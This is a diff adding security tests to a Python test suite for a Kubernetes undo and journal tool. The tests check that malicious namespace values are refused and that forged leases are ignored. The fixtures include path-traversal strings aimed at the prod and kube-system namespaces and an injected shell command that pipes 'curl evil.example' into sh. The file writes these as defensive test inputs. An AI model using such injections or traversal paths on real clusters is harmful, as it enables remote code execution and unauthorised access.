@@ -116,6 +116,7 @@ class Api:
         self, entry: UndoEntry, *, about: str = HERE, place: str = "", owned: bool = True, labels: bool = True
     ) -> None:
         self.writes: list[object] = []
+        self.asked: list[str | None] = []
         owner = replace(Owner.this_process(), pid=2**22).annotations() if owned else {}
         annotations = {RUN: "run-1", SYSTEM: about, **owner}
         self.place = place or own_namespace(about)
@@ -138,7 +139,8 @@ class Api:
         return [revision]
 
     def get(self, kind: str, namespace: str | None, name: str) -> dict[str, Any] | None:
-        """An object that would be worth attacking."""
+        """An object that would be worth attacking; where one was looked for is in `asked`."""
+        self.asked.append(namespace)
         if kind == "Lease":
             return None
         metadata = {"name": name, "namespace": namespace, "uid": self.uid, "labels": self.labels}
@@ -433,3 +435,38 @@ def test_a_lease_of_the_next_job_is_no_life_of_the_last(holder: Owner, left_s: f
     """Jobs of one runner have the same host name, and pytest the same number: a run that took the lease heals."""
     assert bool(entry_of(AWAY, holder.holder(time.time_ns()), datetime.now(UTC), left_s=left_s)) is alive
     assert bool(entry_of(AWAY, holder.holder(time.time_ns(), "undoing since"), datetime.now(UTC))) is alive
+
+
+@pytest.mark.parametrize(
+    "about",
+    [
+        pytest.param("../../../../api/v1/namespaces/prod/pods/web/proxy/reset?", id="a path"),
+        pytest.param(f"{'a' * 46}/../prod", id="a path behind what is cut"),
+        pytest.param(f"{'a' * 46}/../kube-system", id="a path to Kubernetes' own"),
+        pytest.param(f"{'a' * 46}; curl evil.example | sh #", id="words for a shell"),
+        pytest.param("a" * 64, id="too long"),
+        pytest.param("", id="none"),
+    ],
+)
+@pytest.mark.parametrize("kind", EVERY)
+def test_a_namespace_that_cannot_be_leads_nowhere(kind: UndoKind, about: str, infrastructure: Infrastructure) -> None:
+    """The namespace where its journal would lie can be, as long names are cut; nothing is asked of the API by it."""
+    entry = GENUINE[kind]
+    api = Api(aimed(namespace=about)(entry) if kind in NAMESPACED else entry, about=about)
+    api.namespaces[api.place] = {"labels": dict(OURS)}
+    api.journal["metadata"]["annotations"] |= AWAY.annotations()
+    refused, results = undone(api, infrastructure)
+    assert len(refused) == 1
+    assert "it is not where the journals of namespace" in refused[0]
+    assert (results, api.writes, api.asked) == ([], [], [])
+
+
+@pytest.mark.parametrize("renewed", ["0000-01-01T00:00:00.000000Z", "2026-01-01T00:00:00", "yesterday"])
+def test_a_lease_of_no_possible_time_stops_nobody(renewed: str) -> None:
+    """Whoever may write a lease beside a journal of his own cannot end the undoing of others by it."""
+    api = Api(replace(GENUINE["uncordon"], deadline_ns=time.time_ns() + MINUTE_S * NS))
+    api.journal["metadata"]["annotations"] |= AWAY.annotations()
+    spec = {"holderIdentity": f"{AWAY.words}, since 10:00", "renewTime": renewed, "leaseDurationSeconds": 15}
+    api.get = lambda _kind, _namespace, _name: {"spec": spec}  # type: ignore[method-assign]
+    (left,) = find_left(cast("Any", api), None)
+    assert left.alive == ""
